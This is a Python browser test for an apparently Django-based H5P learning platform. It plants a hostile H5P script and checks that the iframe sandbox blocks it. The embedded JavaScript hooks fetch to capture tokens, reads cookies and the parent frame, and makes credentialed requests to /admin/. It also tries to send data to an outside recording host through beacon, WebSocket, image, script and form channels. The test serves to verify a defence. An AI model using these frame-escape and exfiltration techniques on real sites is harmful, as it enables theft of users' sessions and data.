"""A hostile package tries, from inside its frame, everything that would get out of it. Nothing arrives."""

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from learning.h5p.models import Launch, Statement
from tests.factories.h5p import imported
from tests.h5p.archives import Member, package
from tests.h5p.views.test_browser import play  # noqa: F401 a fixture

pytestmark = [pytest.mark.browser, pytest.mark.once, pytest.mark.django_db(transaction=True)]

HOSTILE = """
var H5P = H5P || {};
H5P.Proef = function () {
  H5P.EventDispatcher.call(this);
  this.attach = function ($container) { attack(ELSEWHERE, $container[0] || $container); };
};
H5P.Proef.prototype = Object.create(H5P.EventDispatcher.prototype);
var stolen = [];
window.fetch = (function (real) {
  return function (url, options) {
    stolen.push(String(options && options.body));
    return real.call(window, url, options);
  };
})(window.fetch);
function attack(elsewhere, container) {
  var tried = {};
  var attempt = function (name, act) {
    return Promise.resolve().then(act).then(
      function (value) { tried[name] = String(value); }, function (error) { tried[name] = error.name; });
  };
  var real = Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get;
  var read = function (url, options) { return fetch(url, options).then(function (answer) { return answer.text(); }); };
  var loaded = function (element, fields) {
    return new Promise(function (done) {
      element.onload = function () { done("arrived"); };
      element.onerror = function () { done("stopped"); };
      Object.assign(element, fields);
      document.body.append(element);
    });
  };
  var make = function (name) { return document.createElement(name); };
  var submit = function (action) {
    var form = make("form");
    form.method = "post"; form.action = action; form.target = "_self";
    document.body.append(form);
    form.submit();
    return "sent";
  };
  Promise.all([
    attempt("origin", function () { return self.origin; }),
    attempt("cookie", function () { return document.cookie; }),
    attempt("realCookie", function () { return real.call(document); }),
    attempt("parent", function () { return parent.document; }),
    attempt("parentLocation", function () { return parent.location.href; }),
    attempt("parentStorage", function () { return parent.localStorage; }),
    attempt("database", function () { return indexedDB.open("a"); }),
    attempt("caches", function () { return caches.open("a"); }),
    attempt("top", function () { top.location = elsewhere + "top"; }),
    attempt("popup", function () { return window.open(elsewhere + "popup"); }),
    attempt("mine", function () { return read("/mijn/"); }),
    attempt("mineWithCookies", function () { return read("/mijn/", { credentials: "include" }); }),
    attempt("admin", function () { return read("/admin/", { credentials: "include" }); }),
    attempt("elsewhere", function () { return read(elsewhere + "fetch"); }),
    attempt("beacon", function () { navigator.sendBeacon(elsewhere + "beacon", "a"); return "queued"; }),
    attempt("socket", function () { return new WebSocket(elsewhere.replace("http", "ws")) && "made"; }),
    attempt("picture", function () { return loaded(new Image(), { src: elsewhere + "picture" }); }),
    attempt("script", function () { return loaded(make("script"), { src: elsewhere + "script.js" }); }),
    attempt("style", function () { return loaded(make("link"), { rel: "stylesheet", href: elsewhere + "a.css" }); }),
    attempt("frame", function () {
      document.body.append(Object.assign(make("iframe"), { src: elsewhere + "frame" }));
    }),
    attempt("formElsewhere", function () { return submit(elsewhere + "form"); }),
    attempt("formHere", function () { return submit("/account/"); }),
    attempt("eval", function () { return (0, eval)("1"); }),
    attempt("inline", function () {
      var script = make("script");
      script.textContent = "window.ranInline = true";
      document.body.append(script);
      return Boolean(window.ranInline);
    }),
    attempt("worker", function () { return navigator.serviceWorker.register("/sw.js"); }),
    attempt("token", function () { return document.getElementById("h5p-bridge"); }),
    attempt("download", function () {
      var link = make("a"); link.href = elsewhere + "download"; link.download = "a"; link.target = "_blank";
      document.body.append(link); link.click();
    }),
  ]).then(function () {
    H5P.externalDispatcher.trigger(Object.assign(new H5P.XAPIEvent(), {}));
    var event = new H5P.XAPIEvent();
    event.setVerb("completed"); event.setObject({ contentId: 1, getTitle: function () { return "a"; } });
    H5P.externalDispatcher.trigger(event);
    setTimeout(function () {
      tried.stolenToken = stolen.some(function (body) { return body.indexOf("token") >= 0; });
      var told = make("pre");
      told.id = "uitslag";
      told.textContent = JSON.stringify(tried);
      container.append(told);
    }, 1500);
    setTimeout(function () { location.href = elsewhere + "self"; }, 2500);
  });
}
"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """(address, requests): a site of somebody else's, which notes whatever reaches it."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"gelukt")

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *_args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", seen
    server.shutdown()
    server.server_close()


def test_hostile_package_gets_nothing_out_of_its_frame(
    play: Callable[..., Any],  # noqa: F811 the fixture
    elsewhere: tuple[str, list[str]],
) -> None:
    address, seen = elsewhere
    script = HOSTILE.replace("ELSEWHERE", json.dumps(address)).encode()
    made = imported(
        package(without=("H5P.Proef-1.0/proef.js",), extra=[Member(name=b"H5P.Proef-1.0/proef.js", data=script)])
    )
    made.allow_eval = False
    made.needs_eval = False  # as if the import had not seen it: the frame's own policy has to stop it
    made.save()
    page, frame = play(made)
    assert "geheim" in page.evaluate("document.cookie")
    popups: list[Any] = []
    page.context.on("page", lambda opened: popups.append(opened.url))

    told = json.loads(frame.locator("#uitslag").inner_text())
    page.wait_for_timeout(1500)

    assert told.pop("worker") in {"SecurityError", "TypeError"}
    assert told.pop("socket") in {"made", "SecurityError"}  # made, and never connected: see below
    assert told == {
        "origin": "null",
        "cookie": "",
        "realCookie": "SecurityError",
        "parent": "SecurityError",
        "parentLocation": "SecurityError",
        "parentStorage": "SecurityError",
        "database": "SecurityError",
        "caches": "SecurityError",
        "top": "SecurityError",
        "popup": "null",
        "mine": "geen cookies",
        "mineWithCookies": "TypeError",
        "admin": "TypeError",
        "elsewhere": "TypeError",
        "beacon": "queued",
        "picture": "stopped",
        "script": "stopped",
        "style": "stopped",
        "frame": "undefined",
        "formElsewhere": "sent",
        "formHere": "sent",
        "eval": "EvalError",
        "inline": "false",
        "token": "null",
        "download": "undefined",
        "stolenToken": False,
    }
    assert (seen, popups) == ([], [])
    assert "/les/" in page.url
    assert Launch.objects.count() == 1
    assert set(Statement.objects.values_list("verb", "score_raw")) <= {("attempted", None), ("completed", None)}
